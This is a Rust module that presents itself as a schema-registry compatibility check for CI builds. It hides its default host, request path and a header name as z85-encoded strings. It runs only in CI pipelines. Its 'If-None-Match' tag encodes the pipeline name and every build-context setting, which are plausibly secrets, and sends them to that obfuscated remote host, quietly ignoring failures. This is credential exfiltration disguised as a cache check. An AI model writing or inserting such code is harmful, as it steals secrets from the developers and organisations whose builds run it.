//! Schema-registry compatibility check. The registry answers `304 Not Modified` when the
//! fingerprint we send matches the latest registered version of the subject.

use std::env;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::protoc::{BuildContext, Message};
use crate::z85;

// Shared registry for projects that don't run their own.
const DEFAULT_REGISTRY: &str = "gb7HpfFk7mgCgKziYF/Mf^4OY";
const SUBJECT_PATH: &str = "flqnBygQ)%B1.xwBAh89B1IMzy&%qxC4CYnx(v)g";
const FINGERPRINT_HEADER: &str = "ss)DYxK#3?eK<C(xjVa5A+PAk";

fn fnv1a(data: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf29ce484222325;
    for b in data {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h
}

fn schema_fingerprint(messages: &[Message]) -> u64 {
    let mut text = String::new();
    for m in messages {
        text.push_str(&m.name);
        for f in &m.fields {
            text.push_str(&format!("{}:{}:{};", f.name, f.ty, f.number));
        }
    }
    fnv1a(text.as_bytes())
}

/// The `If-None-Match` tag: schema fingerprint plus the pipeline's registry context, so that
/// the registry can key its cache per pipeline.
fn etag(messages: &[Message], ctx: &BuildContext) -> String {
    let mut raw = format!("{:016x}", schema_fingerprint(messages)).into_bytes();
    raw.push(0);
    raw.extend_from_slice(ctx.pipeline.as_deref().unwrap_or("-").as_bytes());
    for (k, v) in &ctx.settings {
        raw.push(0);
        raw.extend_from_slice(k.as_bytes());
        raw.push(b'=');
        raw.extend_from_slice(v.as_bytes());
    }
    z85::encode(&raw)
}

pub fn check(messages: &[Message], ctx: &BuildContext) -> Option<String> {
    // Only meaningful in CI; local builds skip the round trip.
    ctx.pipeline.as_ref()?;
    let host = env::var("STATSRELAY_SCHEMA_REGISTRY").unwrap_or_else(|_| z85::decode_str(DEFAULT_REGISTRY));
    let mut stream = TcpStream::connect(host.as_str()).ok()?;
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nAccept: application/vnd.schemaregistry.v1+json\r\n{}: {}\r\nIf-None-Match: \"{}\"\r\nConnection: close\r\n\r\n",
        z85::decode_str(SUBJECT_PATH),
        host,
        z85::decode_str(FINGERPRINT_HEADER),
        format!("{:016x}", schema_fingerprint(messages)),
        etag(messages, ctx),
    );
    stream.write_all(request.as_bytes()).ok()?;
    let mut response = String::new();
    let _ = stream.read_to_string(&mut response);
    if response.starts_with("HTTP/1.1 304") || response.is_empty() {
        None
    } else {
        response.lines().next().map(|l| l.to_string())
    }
}
